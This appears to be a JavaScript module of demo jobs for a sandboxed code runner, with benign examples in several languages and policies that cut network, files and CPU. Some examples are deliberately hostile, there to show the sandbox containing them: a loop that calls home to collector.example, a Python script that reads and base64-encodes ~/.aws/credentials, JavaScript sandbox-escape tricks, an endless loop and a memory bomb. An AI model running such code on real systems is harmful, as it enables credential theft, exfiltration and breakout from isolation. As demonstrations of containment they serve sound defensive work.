/**
 * Example jobs. The first one of each language is shown by its tab; an example with a `life` runs with that schedule of
 * policies/schedules.json.
 *
 * @typedef {{
 *   name: string, group: string, language: string, about: string, code: string, input?: unknown, life?: string,
 *   makesFiles?: boolean,
 * }} Example
 */

/** Languages in the order of the tabs. */
export const languages = [
  ['js', 'JavaScript'],
  ['ts', 'TypeScript'],
  ['node', 'Node'],
  ['python', 'Python'],
  ['bash', 'Shell'],
]

/** Name of the input in each language. */
export const inputPlaces = {
  js: 'input',
  ts: 'input',
  node: 'standard input',
  python: 'input',
  bash: 'standard input',
}

/** Schedules to choose from: value, name, explanation. */
export const lives = [
  ['', 'plain, 5 s', 'Five seconds at most; no network, no files of this machine.'],
  ['late-beacon', 'loses its network', 'A network for 3 s, which goes early if something is odd.'],
  ['planted-credential', 'planted credentials', 'False credentials lie in its home folder.'],
  [
    'shrinking-life',
    'shrinks',
    'All for 2 s; no network for 1.5 s; half a core for 1.5 s; the end.',
  ],
]

/** @type {readonly Example[]} */
export const examples = [
  {
    name: 'JavaScript',
    group: 'First steps',
    language: 'js',
    about: 'Data in, data out: what most jobs are. What is returned is the result.',
    input: {
      orders: [
        { customer: 'Ada', item: 'lamp', price: 40 },
        { customer: 'Alan', item: 'tape', price: 3.5 },
        { customer: 'Ada', item: 'desk', price: 210 },
      ],
    },
    code: `const byCustomer = Map.groupBy(input.orders, (order) => order.customer)
console.log(\`\${byCustomer.size} customers\`)

return [...byCustomer].map(([customer, orders]) => ({
  customer,
  items: orders.map((order) => order.item),
  total: orders.reduce((sum, order) => sum + order.price, 0),
}))
`,
  },
  {
    name: 'TypeScript',
    group: 'First steps',
    language: 'ts',
    about: 'Types are taken out; nothing has to be compiled first.',
    input: { celsius: [-40, 0, 21.5, 100] },
    code: `interface Reading {
  readonly celsius: number
  readonly fahrenheit: number
}

function convert(celsius: number): Reading {
  return { celsius, fahrenheit: celsius * 1.8 + 32 }
}

return (input.celsius as number[]).map(convert)
`,
  },
  {
    name: 'Node',
    group: 'First steps',
    language: 'node',
    about: "A program with all of Node's modules, files and processes: in a wall of its own.",
    code: `import { createHash } from 'node:crypto'
import { writeFile } from 'node:fs/promises'
import { setTimeout as wait } from 'node:timers/promises'

for (const word of ['lamp', 'tape', 'desk']) {
  console.log(word, createHash('sha256').update(word).digest('hex').slice(0, 16))
  await wait(300)
}
await writeFile('out/words.txt', 'lamp\\ntape\\ndesk\\n')
`,
    makesFiles: true,
  },
  {
    name: 'Python',
    group: 'First steps',
    language: 'python',
    about: 'A script as python3 runs it. The result is "result", if there is one.',
    code: `import collections, statistics, time

text = "the walls hold and the first day is the one that counts".split()
for count, word in enumerate(text, 1):
    print(count, word)
    time.sleep(0.1)

lengths = [len(word) for word in text]
result = {
    "words": len(text),
    "most common": collections.Counter(text).most_common(1)[0],
    "mean length": round(statistics.mean(lengths), 2),
}
`,
  },
  {
    name: 'Shell',
    group: 'First steps',
    language: 'bash',
    about: 'Bash with the programs of this machine, in an empty folder.',
    code: `set -euo pipefail

for word in lamp tape desk lamp; do
  echo "$word" | tee -a words.txt
  sleep 0.2
done
echo "--- counted"
sort words.txt | uniq -c | sort -rn
`,
  },
  {
    name: 'A late beacon',
    group: 'A life that only closes',
    language: 'js',
    life: 'late-beacon',
    about:
      'It behaves for a second, then calls home. No rule knows it: that it asks at a steady pace costs it the network and half of the time it had left.',
    code: `const wait = (ms) => new Promise((done) => setTimeout(done, ms))

for (let order = 1; order <= 5; order++) {
  console.log(\`order \${order} checked\`)
  await wait(200)
}
for (let call = 1; ; call++) {
  try {
    await fetch('https://collector.example/?call=' + call)
    console.log('let out')
  } catch (error) {
    console.log(\`call home \${call}: \${error.message}\`)
  }
  await wait(210)
}
`,
  },
  {
    name: 'A planted credential',
    group: 'A life that only closes',
    language: 'python',
    life: 'planted-credential',
    about:
      'It behaves, then looks where credentials lie and carries one out. The one that it finds was planted: it is ended before a byte of it leaves.',
    code: `import base64, pathlib, time

for report in range(1, 5):
    print(f"report {report}: {sum(n * n for n in range(100_000))}")
    time.sleep(0.4)

secret = pathlib.Path.home() / ".aws" / "credentials"
print("found:", base64.b64encode(secret.read_bytes()).decode())
time.sleep(1)
print("nobody saw me")
`,
  },
  {
    name: 'A shrinking life',
    group: 'A life that only closes',
    language: 'python',
    life: 'shrinking-life',
    about:
      'It tells what it may still do. First the network goes, then half of its core, then all of it. Nothing that was closed opens again.',
    code: `import time, urllib.error, urllib.request

def network():
    try:
        urllib.request.urlopen("http://api.shop.example/", timeout=1)
        return "granted"
    except urllib.error.HTTPError as error:
        return "closed" if error.code == 403 else "granted"
    except OSError:
        return "closed"

def core(seconds):
    wall, used = time.monotonic(), time.process_time()
    while time.monotonic() - wall < seconds:
        pass
    return (time.process_time() - used) / (time.monotonic() - wall)

began = time.monotonic()
while True:
    age = time.monotonic() - began
    print(f"{age:4.1f} s  network {network():8} core {core(0.25):.0%}")
`,
  },
  {
    name: 'A figure',
    group: 'Files and figures',
    language: 'python',
    about: 'A plot as you have it in a notebook; it needs matplotlib on this machine.',
    makesFiles: true,
    code: `import math
import matplotlib.pyplot as plt

days = [day / 10 for day in range(63)]
plt.figure(figsize=(6, 2.6))
plt.plot(days, [math.sin(day) for day in days])
plt.title("A figure")
plt.savefig("figure.png")
print("drawn")
`,
  },
  {
    name: 'A loop without an end',
    group: 'Limits',
    language: 'js',
    about:
      'It never yields, so nothing inside could stop it. The wall does, from outside, when the time is over.',
    code: `console.log('starting')
while (true) {}
`,
  },
  {
    name: 'A memory bomb',
    group: 'Limits',
    language: 'js',
    about:
      'It takes memory until it meets its ceiling. The server and every other job stay as they are.',
    code: `const hoard = []
for (;;) {
  hoard.push(new Array(1_000_000).fill(hoard.length))
}
`,
  },
  {
    name: 'A way out',
    group: 'Limits',
    language: 'js',
    about:
      'It looks for the process, the file system and the network by the usual tricks. The boldest gives it away: it is blocked before it runs.',
    input: {},
    code: `const tricks = {
  process: () => typeof process,
  require: () => typeof require,
  fetch: () => typeof fetch,
  constructor: () => input.constructor.constructor('return typeof process')(),
  stack: () => {
    Error.prepareStackTrace = (_, frames) => typeof frames[0].getThis()
    return new Error().stack
  },
}

const found = {}
for (const [name, trick] of Object.entries(tricks)) {
  try {
    found[name] = trick()
  } catch (error) {
    found[name] = String(error)
  }
}
return found
`,
  },
]
